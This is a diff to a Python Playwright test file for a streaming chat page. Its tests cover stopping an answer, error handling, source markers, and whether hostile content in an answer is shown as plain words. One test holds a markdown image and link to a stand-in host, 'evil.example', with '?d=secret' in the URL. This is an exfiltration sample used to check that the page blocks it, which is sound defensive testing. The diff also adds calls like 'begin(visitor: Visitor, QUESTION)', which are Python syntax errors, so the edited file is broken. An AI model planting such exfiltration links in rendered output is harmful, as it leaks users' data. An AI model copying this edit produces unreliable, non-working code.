@@ -1,5 +1,7 @@
 """Answers that take their time, as a chat model's do: stopping, failing, and words that a model makes up."""
 
+from __future__ import annotations
+
 import re
 import threading
 import time
@@ -69,18 +71,17 @@ def slow_url(guide: Advisor) -> Iterator[str]:
     thread.join(timeout=20)
 
 
-def begin(visitor, question: str) -> None:
+def begin(visitor: Visitor, question: str) -> None:
     visitor.page.get_by_label("Your question").fill(question)
     visitor.page.keyboard.press("Enter")
     expect(visitor.page.locator("#chat .bot-row")).to_contain_text("Salaries")
 
 
-def test_stop_freezes_the_answer_and_says_so(open_page: Callable, slow_url: str) -> None:
+def test_stop_freezes_the_answer_and_says_so(open_page: Open, slow_url: str) -> None:
     visitor = open_page(slow_url)
-    begin(visitor, QUESTION)
+    begin(visitor: Visitor, QUESTION)
     bubble = visitor.answered(visitor.page.get_by_role("button", name="Stop").click)
     expect(bubble.locator(".notice.error")).to_contain_text("Stopped.")
-    visitor.page.screenshot(path="/tmp/web/f2.png")
     before = bubble.inner_text()
     visitor.page.wait_for_timeout(700)  # long enough for a dozen more pieces
     assert bubble.inner_text() == before
@@ -88,33 +89,30 @@ def test_stop_freezes_the_answer_and_says_so(open_page: Callable, slow_url: str)
     expect(visitor.page.get_by_role("button", name="Send")).to_be_visible()
 
 
-def test_a_new_conversation_ends_the_answer_that_is_being_written(open_page: Callable, slow_url: str) -> None:
+def test_after_a_stop_the_conversation_goes_on(open_page: Open, slow_url: str) -> None:
     visitor = open_page(slow_url)
-    begin(visitor, QUESTION)
-    visitor.page.get_by_role("button", name="New conversation").click()
-    expect(visitor.page.locator("#chat .example").first).to_be_visible()
-    visitor.page.wait_for_timeout(700)
-    expect(visitor.page.locator("#chat .bot-row")).to_have_count(0)
+    begin(visitor: Visitor, QUESTION)
+    visitor.answered(visitor.page.get_by_role("button", name="Stop").click)
+    expect(visitor.ask("and Tesla?").locator(".notice").first).to_have_text("Answered from the documents")
 
 
-def test_a_marker_clicked_too_early_opens_once_the_answer_is_complete(open_page: Callable, slow_url: str) -> None:
+def test_a_marker_clicked_too_early_opens_once_the_answer_is_complete(open_page: Open, slow_url: str) -> None:
     visitor = open_page(slow_url)
-    begin(visitor, QUESTION)
+    begin(visitor: Visitor, QUESTION)
     visitor.page.locator("#chat a[href$='-1']").first.click()
     expect(visitor.page.locator("#panel [role=status]")).to_contain_text("as soon as the answer is complete")
     expect(visitor.page.locator("#source")).to_be_visible(timeout=20_000)
 
 
-def test_a_failure_is_an_error_and_the_next_question_is_answered(open_page: Callable, slow_url: str) -> None:
+def test_a_failure_is_an_error_and_the_next_question_is_answered(open_page: Open, slow_url: str) -> None:
     visitor = open_page(slow_url)
     bubble = visitor.ask("What does a senior AI engineer earn, or does it fail?")
     expect(bubble.locator(".notice.error")).to_contain_text("Something went wrong")
-    visitor.page.screenshot(path="/tmp/web/f1.png")
     assert "gone" not in bubble.inner_text()
     expect(visitor.ask(QUESTION).locator(".notice").first).to_have_text("Answered from the documents")
 
 
-def test_links_images_and_scripts_in_an_answer_stay_words(open_page: Callable, slow_url: str) -> None:
+def test_links_images_and_scripts_in_an_answer_stay_words(open_page: Open, slow_url: str) -> None:
     visitor = open_page(slow_url)
     bubble = visitor.ask("a hostile one")
     expect(bubble).to_contain_text("![x](https://evil.example/?d=secret) [here](https://evil.example)")
